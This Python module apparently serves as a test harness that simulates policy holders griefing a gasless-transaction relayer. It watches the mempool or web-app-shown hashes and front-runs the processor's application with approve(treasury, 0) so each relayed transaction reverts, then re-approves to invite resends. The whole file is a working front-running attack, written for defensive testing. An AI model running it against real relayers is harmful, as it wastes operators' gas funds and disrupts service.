"""An applicant who turns the relayer's gas against it (issue 21): policy holders who let the
processor send their application, then take the premium's allowance away just before it runs.

It watches for a processor transaction that carries one of its holders' applications: in the
node's pool (`txpool_content`, where it reads the calldata and the tip to beat) or, where the
transaction never reaches a public pool, through the hashes the web app shows its users
(`shown`), or both (`pool=True` with `shown`). Then it sends `approve(treasury, 0)` from that
holder with a higher tip, so that it is mined first in the same block and the processor's
transaction reverts with `ERROR:DP-015:ALLOWANCE_TOO_LOW`. Once that approval is mined it
approves `allowance` again, so the application would succeed if sent again: each resend is one
more revert to pay for.

It signs with the holders' own keys, as a real one does, and runs in a thread of its own until
its stop Event is set; `run_once()` is one look, for tests that drive it step by step.
"""

from __future__ import annotations

import logging
import threading
from collections.abc import Callable, Iterable, Sequence

from eth_abi import decode as abi_decode
from eth_account.signers.local import LocalAccount
from eth_utils import keccak
from web3 import HTTPProvider, Web3

log = logging.getLogger(__name__)
APPLY = (
    "applyForPolicyWithBundleAndSignature(address,address,uint256,uint256,uint256,bytes32,bytes)"
)
APPLY_SELECTOR = "0x" + keccak(text=APPLY)[:4].hex()
APPLY_TYPES = APPLY[APPLY.index("(") + 1 : -1].split(",")
APPROVE_SELECTOR = keccak(text="approve(address,uint256)")[:4]
APPROVE_GAS = 60_000
GWEI = 10**9
# the fees to beat when the transaction cannot be seen (`shown`): (tip, max fee)
BLIND_FEES = (50 * GWEI, 100 * GWEI)


def application_holder(tx: dict, product: str) -> str | None:
    """The policy holder whose application `tx` (a node's transaction object) sends to
    `product`, or None when it sends none."""
    data = tx.get("input") or tx.get("data") or "0x"
    if (tx.get("to") or "").lower() != product.lower() or not data.startswith(APPLY_SELECTOR):
        return None
    args = abi_decode(APPLY_TYPES, bytes.fromhex(data[10:]))
    return Web3.to_checksum_address(args[0])


def pool_transactions(content: dict) -> Iterable[dict]:
    """Every transaction in a `txpool_content` answer, pending and queued."""
    for section in ("pending", "queued"):
        for by_nonce in (content.get(section) or {}).values():
            yield from by_nonce.values()


class Attacker:
    """Front-runs the processor's transactions for `holders` with `approve(treasury, 0)`."""

    def __init__(
        self,
        *,
        rpc_url: str,
        product: str,
        token: str,
        treasury: str,
        holders: Sequence[LocalAccount],
        allowance: int = 100 * 10**6,
        shown: Callable[[], dict[str, str]] | None = None,
        pool: bool | None = None,
        poll: float = 0.02,
    ) -> None:
        self.w3 = Web3(HTTPProvider(rpc_url, request_kwargs={"timeout": 10}))
        self.product = product
        self.token = token
        self.treasury = treasury
        self.holders = {h.address.lower(): h for h in holders}
        self.allowance = allowance  # what it approves again after each attack
        self.shown = shown  # None: watch the pool; else {tx hash: holder} as the web app shows
        self.pool = shown is None if pool is None else pool  # the pool too, with `shown`
        self.poll = poll
        self.attacked: dict[str, str] = {}  # processor transaction hash -> holder address
        self.approvals: list[str] = []  # hashes of its approve(treasury, 0) transactions
        self.restores: list[str] = []  # hashes of its approvals of `allowance` again
        self.errors: list[str] = []
        self.stop = threading.Event()
        self._unmined: dict[str, tuple[str, tuple]] = {}  # approve(0) hash -> (holder, fees)
        self._nonces: dict[str, int] = {}
        self._chain_id = 0
        self._thread: threading.Thread | None = None

    def start(self) -> Attacker:
        self._chain_id = self.w3.eth.chain_id
        self._thread = threading.Thread(target=self.run, name="attacker", daemon=True)
        self._thread.start()
        return self

    def run(self) -> None:
        while not self.stop.is_set():
            try:
                self.run_once()
            except Exception as error:  # a test reads them; the attacker keeps going
                log.warning("attacker: %s", error)
                self.errors.append(repr(error))
            self.stop.wait(self.poll)

    def close(self) -> None:
        self.stop.set()
        if self._thread is not None:
            self._thread.join(10)

    def __enter__(self) -> Attacker:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.close()

    def run_once(self) -> None:
        """One look: attack what is new, approve again where an attack was mined."""
        self._chain_id = self._chain_id or self.w3.eth.chain_id
        for tx_hash, holder, fees in self._targets():
            if tx_hash in self.attacked:
                continue
            self.attacked[tx_hash] = holder
            if any(h == holder for h, _fees in self._unmined.values()):
                continue  # its allowance is already on its way to zero in this block
            approval = self._approve(holder, 0, fees)
            self.approvals.append(approval)
            self._unmined[approval] = (holder, fees)
            log.info("attacker: %s front-runs %s with %s", holder, tx_hash, approval)
        for approval, (holder, fees) in list(self._unmined.items()):
            if self._mined(approval):
                del self._unmined[approval]
                self.restores.append(self._approve(holder, self.allowance, fees))

    def _mined(self, tx_hash: str) -> bool:
        return (
            self.w3.provider.make_request("eth_getTransactionReceipt", [tx_hash])["result"]
            is not None
        )

    def _targets(self) -> Iterable[tuple[str, str, int]]:
        """(processor transaction hash, holder address, (tip, max fee) to beat) of what it
        can see."""
        if self.shown is not None:
            for tx_hash, holder in self.shown().items():
                if holder.lower() in self.holders:
                    yield tx_hash, holder.lower(), BLIND_FEES
        if not self.pool:
            return
        for tx in pool_transactions(self.w3.provider.make_request("txpool_content", [])["result"]):
            holder = application_holder(tx, self.product)
            if holder is not None and holder.lower() in self.holders:
                price = int(tx.get("gasPrice") or "0x0", 16)
                tip = int(tx.get("maxPriorityFeePerGas") or hex(price), 16)
                yield (
                    tx["hash"],
                    holder.lower(),
                    (tip, int(tx.get("maxFeePerGas") or hex(price), 16)),
                )

    def _approve(self, holder: str, amount: int, to_beat: tuple[int, int]) -> str:
        """Send `approve(treasury, amount)` from `holder` with a tip and a max fee above those
        `to_beat`: a builder orders by the tip, anvil by the max fee; it pays only base fee
        and tip."""
        account = self.holders[holder]
        tip = 2 * to_beat[0] + GWEI
        base_fee = self.w3.eth.get_block("latest")["baseFeePerGas"]
        data = APPROVE_SELECTOR + _word(int(self.treasury, 16)) + _word(amount)
        tx = {
            "type": 2,
            "chainId": self._chain_id,
            "nonce": self._nonce(account.address),
            "to": self.token,
            "data": "0x" + data.hex(),
            "gas": APPROVE_GAS,
            "maxPriorityFeePerGas": tip,
            "maxFeePerGas": max(tip + 2 * base_fee, 2 * to_beat[1] + GWEI),
        }
        raw = account.sign_transaction(tx).raw_transaction
        return self.w3.eth.send_raw_transaction(raw).to_0x_hex()

    def _nonce(self, address: str) -> int:
        if address not in self._nonces:
            self._nonces[address] = self.w3.eth.get_transaction_count(address, "pending")
        self._nonces[address] += 1
        return self._nonces[address] - 1


def _word(value: int) -> bytes:
    return value.to_bytes(32, "big")


def shown_by_webapp(client, applications: dict[str, str]) -> Callable[[], dict[str, str]]:
    """What the web app shows each holder: the `transactionHash` the processor wrote on its
    application (`applications`: entity id -> holder address), once there is one."""

    def shown() -> dict[str, str]:
        pipe = client.pipeline(transaction=False)
        for entity_id in applications:
            pipe.hget(f"PendingApplication:{entity_id}", "transactionHash")
        hashes = pipe.execute()
        return {h: applications[e] for e, h in zip(applications, hashes) if h}

    return shown
